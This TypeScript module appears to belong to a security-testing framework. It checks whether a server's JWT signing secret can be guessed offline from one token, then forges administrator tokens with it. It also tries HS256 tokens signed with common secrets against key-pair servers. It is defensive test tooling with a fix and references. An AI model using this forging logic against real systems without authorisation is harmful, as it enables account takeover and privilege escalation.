import { createHmac } from 'node:crypto';
import type { Credential } from '../../exchange.ts';
import type { Attack, Judgement } from '../../kinds/attack.ts';
import { commonWords } from '../../kit/tokens/common-secrets.ts';
import { type Json, readCompact, signingInput } from '../../kit/tokens/compact-token.ts';
import type { ForgedToken } from '../../kit/tokens/forged-token.ts';
import {
  accessTokenOf,
  asAdmin,
  judgePresented,
  present,
  statesClaims,
  type TokensSeen,
  withAccessToken,
} from '../../kit/tokens/presented-token.ts';
import { searchSecret } from '../../kit/tokens/secret-search.ts';
import type { Effort, Stage } from '../../stage.ts';

type Searched = {
  readonly guesses: number;
  readonly guessesPerSecond: number;
  readonly found: boolean;
  /** Whom a token speaks for that was signed with what was found. */
  readonly forgedSpeaksFor: 'admin' | 'somebody' | 'nobody';
};

/** What the server was asked where its tokens have no secret of their own. */
type Seen = Searched | TokensSeen;

const mostGuesses: Record<Effort, number> = { smoke: 20_000, quick: 100_000, standard: 500_000, full: 2_000_000 };
/** So many are asked of the server itself, which may count. */
const mostPresented = 100;
type Hash = 'sha256' | 'sha384' | 'sha512';
const hashes: Readonly<Record<string, Hash>> = {
  HS256: 'sha256',
  HS384: 'sha384',
  HS512: 'sha512',
};

export default {
  kind: 'attack',
  id: 'jwt-weak-secret',
  title: 'Secret guessed from one token',
  question: 'Can the signing secret be guessed from a token, out of sight of the server?',
  goal: 'Find the secret that signs all tokens, and sign one as administrator.',
  precondition: 'own-account',
  severity: 'critical',
  references: ['CWE-521', 'CWE-326', 'RFC 7518 §3.2', 'RFC 8725 §2.2', 'RFC 8725 §3.5', 'ASVS 11.2.3'],
  steps: [
    'The attacker signs in to their own account and keeps one token.',
    'On threads of their own they compute its signature with the commonest secrets, variations and pairs of them, without a request to the server.',
    "With what they find they sign the administrator's id and role and ask who they are.",
    'Where tokens are signed with a private key, they sign with the commonest secrets under HS256 instead: some servers take both.',
  ],
  fix: 'Draw the secret at random, with as many bits as its hash (256 for HS256), and replace the one in use. Accept no HMAC beside key pairs.',
  controls: ['jwt-secret-guessable'],
  appliesTo: statesClaims,
  expected: () => 'blocked',

  async attempt(stage) {
    const held = await stage.signIn(stage.attacker);
    const hash = hashes[String(readCompact(accessTokenOf(held)).header.alg)];
    return hash ? search(stage, held, hash) : present(stage, held, signedWithCommonSecrets(stage, held));
  },

  judge(seen): Judgement {
    if ('tries' in seen) return judgePresented(seen, 'tokens signed with a common secret under HS256');
    const { guesses, guessesPerSecond, found, forgedSpeaksFor } = seen;
    const rate = `${guesses} guesses at ${guessesPerSecond} per second`;
    if (!found) return { outcome: 'blocked', tries: guesses, successes: 0, because: `not found in ${rate}` };
    if (forgedSpeaksFor !== 'admin')
      return {
        outcome: 'inconclusive',
        tries: guesses,
        because: `the secret was found in ${rate}, but a token signed with it spoke for ${forgedSpeaksFor}`,
      };
    return {
      outcome: 'succeeded',
      tries: guesses,
      successes: 1,
      because: `the secret was found in ${rate}, and a token signed with it speaks for the administrator`,
    };
  },
} satisfies Attack<Seen>;

async function search(stage: Stage, held: Credential, hash: Hash): Promise<Searched> {
  const token = accessTokenOf(held);
  const { header, payload, signature } = readCompact(token);
  const input = token.slice(0, token.lastIndexOf('.'));
  const { secret, ...made } = await searchSecret(
    { input, signature, hash, most: mostGuesses[stage.effort] },
    stage.signal,
  );
  if (secret === undefined) return { ...made, found: false, forgedSpeaksFor: 'nobody' };
  // the search may have outlived the token that it was about
  const exp = Math.floor(Date.now() / 1_000) + 60;
  const forged = signed(header, { ...asAdmin(stage, payload), ...('exp' in payload && { exp }) }, hash, secret);
  const id = await stage.whoAmI(withAccessToken(held, forged));
  const forgedSpeaksFor = id === undefined ? 'nobody' : id === stage.admin.id ? 'admin' : 'somebody';
  return { ...made, found: true, forgedSpeaksFor };
}

function signedWithCommonSecrets(stage: Stage, held: Credential): ForgedToken[] {
  const { header, payload } = readCompact(accessTokenOf(held));
  const claims = asAdmin(stage, payload);
  return commonWords.slice(0, mostPresented).map((secret, i) => ({
    // a secret that works is none to be shown
    mutation: `secret ${i + 1} of the commonest`,
    token: signed({ ...header, alg: 'HS256' }, claims, 'sha256', secret),
  }));
}

function signed(header: Json, payload: Json, hash: Hash, secret: string): string {
  const input = signingInput(header, payload);
  return `${input}.${createHmac(hash, secret).update(input).digest('base64url')}`;
}
